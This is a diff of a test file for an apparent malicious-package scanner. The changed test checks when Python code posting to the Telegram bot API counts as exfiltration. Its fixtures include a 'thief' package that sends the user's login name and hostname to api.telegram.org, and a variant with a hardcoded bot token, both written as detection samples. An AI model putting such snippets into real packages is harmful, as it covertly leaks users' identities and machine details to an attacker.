@@ -135,13 +135,18 @@ test('archive: what setup() runs is listed: a cmdclass override of install is an
   assert.ok(f && f.role === 'install-time' && f.line === 7, JSON.stringify(f));
 });
 
-test('archive: a Telegram SDK posting to the bot API is not exfiltration; another package posting there is, and a thief named like an SDK still is', async () => {
+test("archive: a Telegram SDK posting to the bot API is not exfiltration, nor another package with the caller's token; one with its own token is, and a thief named like an SDK still is", async () => {
   const client = "import requests, os\nTOKEN_URL = 'https://api.telegram.org/bot{0}/{1}'\ndef call(token, method, data):\n    return requests.post(TOKEN_URL.format(token, method), data=data)\n";
   const info = (name: string) => `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\nSummary: a library\n\n`;
   const sdk = await level('python-telegram-sdk', { 'PKG-INFO': info('python-telegram-sdk'), 'setup.py': "from setuptools import setup\nsetup(name='python-telegram-sdk', packages=['tg'])\n", 'tg/__init__.py': client });
   assert.ok(sdk.level === 'CLEAR' || sdk.level === 'MONITORED', sdk.level);
+  // Another package posting there with the caller's token messages the caller's bot (tqdm's progress bar); with a
+  // bot token written in the package it posts to the author's bot.
   const other = await level('colorlibx', { 'PKG-INFO': info('colorlibx'), 'setup.py': "from setuptools import setup\nsetup(name='colorlibx', packages=['cl'])\n", 'cl/__init__.py': client });
-  assert.is(other.level, 'BLOCKED');
+  assert.is.not(other.level, 'BLOCKED');
+  const own = client.replace('def call(token,', "TOKEN = '7412365980:AAHk3vX9qLmN2pQrStUvWxYz0123456789ab'\ndef call(token,");
+  const drop = await level('colorlibx', { 'PKG-INFO': info('colorlibx'), 'setup.py': "from setuptools import setup\nsetup(name='colorlibx', packages=['cl'])\n", 'cl/__init__.py': own });
+  assert.is(drop.level, 'BLOCKED');
   const recon = client.replace('return requests.post(TOKEN_URL.format(token, method), data=data)', "import getpass, socket\n    return requests.post(TOKEN_URL.format(token, method), data={'u': getpass.getuser(), 'h': socket.gethostname()})");
   const thief = await level('colorlibx', { 'PKG-INFO': info('colorlibx'), 'setup.py': "from setuptools import setup\nsetup(name='colorlibx', packages=['cl'])\n", 'cl/__init__.py': recon });
   assert.is(thief.level, 'BLOCKED');
